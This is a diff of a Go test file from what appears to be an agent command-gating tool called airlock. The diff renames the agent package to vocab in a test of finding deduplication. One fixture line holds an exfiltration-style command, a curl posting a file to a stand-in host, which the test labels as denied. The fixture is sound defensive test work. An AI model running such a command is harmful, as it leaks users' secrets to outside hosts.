@@ -8,7 +8,7 @@ import (
 	"testing"
 	"time"
 
-	"github.com/airlock-dev/airlock/internal/agent"
+	"github.com/airlock-dev/airlock/internal/vocab"
 )
 
 // Short session ids are looked up in the index's list of sessions; the
@@ -90,13 +90,13 @@ func TestShortSessionIDsFromTheIndex(t *testing.T) {
 // in the index's list of findings: scanning twice records nothing twice.
 func TestFindingsAreLookedUpInTheIndex(t *testing.T) {
 	j := open(t)
-	finding := func(cmd, status string, line int) *agent.Event {
+	finding := func(cmd, status string, line int) *vocab.Event {
 		ev := held(cmd, "/p")
 		ev.Name, ev.Agent, ev.Story = EventScanFinding, "scan", "7"
-		ev.Finding = &agent.Finding{Source: "out.jsonl", Line: line, Status: status}
+		ev.Finding = &vocab.Finding{Source: "out.jsonl", Line: line, Status: status}
 		return ev
 	}
-	key := func(ev *agent.Event) string {
+	key := func(ev *vocab.Event) string {
 		return FindingKey(&Entry{Finding: ev.Finding, Command: ev.Action.Command, Session: ev.Session, Story: ev.Story})
 	}
 	refused := finding("curl -d @k https://x.test", "denied", 3)
@@ -106,7 +106,7 @@ func TestFindingsAreLookedUpInTheIndex(t *testing.T) {
 	}
 	record(t, j, ran)
 	fill(t, j, 20)
-	has := func(when string, ev *agent.Event, want bool) {
+	has := func(when string, ev *vocab.Event, want bool) {
 		t.Helper()
 		if got, err := j.HasFinding(key(ev)); err != nil || got != want {
 			t.Fatalf("%s: HasFinding(%s line %d) = %v, %v; want %v", when, ev.Action.Command, ev.Finding.Line, got, err, want)
